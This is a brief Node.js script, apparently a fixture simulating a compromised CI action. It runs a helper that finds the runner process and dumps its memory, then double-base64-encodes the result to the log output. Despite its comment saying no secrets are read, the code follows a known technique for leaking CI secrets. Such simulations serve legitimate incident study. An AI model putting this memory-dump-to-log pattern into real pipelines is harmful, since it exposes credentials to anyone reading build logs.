// Simulates the compromised action without reading secrets: a script of the action finds the runner and opens its memory.
'use strict';
const { execFileSync } = require('node:child_process');
execFileSync('bash', ['-c', `python3 ${__dirname}/dump.py | tr -d '\\0' | base64 -w0 | base64 -w0`], { stdio: 'inherit' });
